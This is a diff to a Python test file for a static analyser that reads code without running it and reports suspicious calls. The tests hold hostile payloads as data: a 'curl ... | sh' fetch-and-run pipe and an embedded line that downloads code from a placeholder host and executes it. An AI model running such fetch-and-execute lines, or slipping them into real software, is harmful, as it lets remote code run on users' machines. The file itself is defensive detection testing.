@@ -84,3 +84,13 @@ def test_literal_payloads_behind_decoders_are_read_not_run() -> None:
     values = {f.value for f in spawn.facts}
     assert "os.system<-base64.b64decode" in values
     assert "curl -s http://203.0.113.5/a | sh" in values
+
+
+def test_python_source_inside_a_string_is_read() -> None:
+    source = (
+        "import tempfile\n"
+        "f = tempfile.NamedTemporaryFile(delete=False)\n"
+        "f.write(b'from urllib.request import urlopen as u;exec(u(\"http://x.invalid\").read())')\n"
+    )
+    values = {(f.value, f.line) for f in python_facts(source).facts if f.kind == "call"}
+    assert ("exec<-urllib.request.urlopen", 3) in values
